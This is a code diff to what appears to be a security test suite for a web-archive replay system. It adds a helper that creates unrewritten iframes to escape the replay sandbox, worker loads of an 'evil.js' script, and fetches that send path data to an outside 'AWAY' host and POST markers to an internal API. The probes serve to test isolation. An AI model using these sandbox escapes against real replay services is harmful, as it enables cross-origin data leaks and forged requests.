@@ -51,6 +51,12 @@ LIBRARY = """(async () => {
       into.append(made);
       return made;
     };
+    // A window without rewriting that has the policy of another one.
+    const inside = (there) => {
+      const made = around.document.createElement("iframe");
+      around.Node.prototype.appendChild.call(there.document.body || there.document.documentElement, made);
+      return made.contentWindow;
+    };
     const loads = (made) => new Promise((resolve) => {
       made.onload = () => resolve("loaded");
       made.onerror = () => resolve("failed");
@@ -61,7 +67,7 @@ LIBRARY = """(async () => {
     tell(page.navigator.userActivation.hasBeenActive ? "did" : "not", "it was clicked on");
     tell("began", is_raw ? "raw" : "rewritten");
     const done = () => tell("ran", "");
-    const given = { done, page, raw, at, wait, got, attempt, add, loads, A: "@A@", B: page.location.origin, C: "@C@", AWAY: "@AWAY@",
+    const given = { done, page, raw, at, wait, got, attempt, add, inside, loads, A: "@A@", B: page.location.origin, C: "@C@", AWAY: "@AWAY@",
                     SITE: "@SITE@", REBOUND: "@REBOUND@", MARK: "@SITE@/marker-" + document.body.id };
     const run = new raw.Function(...Object.keys(given), "return (async () => {" + code + "\\n})()");
     await run(...Object.values(given));
@@ -316,10 +322,19 @@ worker.postMessage({ msg_type: "addColl", name: "direct", type: "live", file: { 
 worker.postMessage({ msg_type: "addColl", name: "file", file: { sourceUrl: "http://" + AWAY + "/a.wacz" } });
 worker.postMessage({ msg_type: "addColl", name: "fileapi", file: { sourceUrl: C + "/api/v1/stats" } });
 await wait(1500);
+for (const name of ["open", "archive"])
+  await attempt("worker of " + name, async () => { new boot.Worker("/replay/w/" + name + "/" + at + "id_/" + SITE + "/evil.js"); return "made"; });
 for (const path of ["open/" + at + "mp_/" + SITE + "/reaching", "api/mp_/stats", "away/mp_/http://" + AWAY + "/x",
                     "direct/mp_/" + C + "/api/v1/stats", "archive/" + at + "mp_/" + SITE + "/reaching"]) {
   const frame = add("iframe", { src: "/replay/w/" + path }, boot.document.body);
   await attempt(path, () => loads(frame));
+  await attempt("use it", async () => {
+    const there = inside(frame.contentWindow);
+    there.fetch("http://" + AWAY + "/from/" + path, { mode: "no-cors" }).catch(() => {});
+    there.fetch(C + "/api/v1/urls", { method: "POST", mode: "no-cors", body: MARK }).catch(() => {});
+    there.fetch(C + "/api/v1/stats").then((answer) => answer.text()).then((body) => got(body.slice(0, 40)), () => {});
+    return "asked";
+  });
   await attempt("read", async () => { const text = frame.contentDocument.body.textContent; if (/"offered"/.test(text)) got(text.slice(0, 40)); return text; });
 }
 await wait(1500);
@@ -333,10 +348,10 @@ for (const path of ["/replay/", "/replay/w/", "/replay/w/archive/", "/replay/w/n
   const frame = add("iframe", { src: path }, page.parent.document.body);
   await attempt(path, () => loads(frame));
   await attempt("use it", async () => {
-    const there = frame.contentWindow;
+    const there = inside(frame.contentWindow);
     there.fetch("http://" + AWAY + "/from" + path, { mode: "no-cors" }).catch(() => {});
     there.fetch(C + "/api/v1/urls", { method: "POST", mode: "no-cors", body: MARK }).catch(() => {});
-    return there.document.contentType;
+    return frame.contentWindow.document.contentType;
   });
 }
 await wait(800);
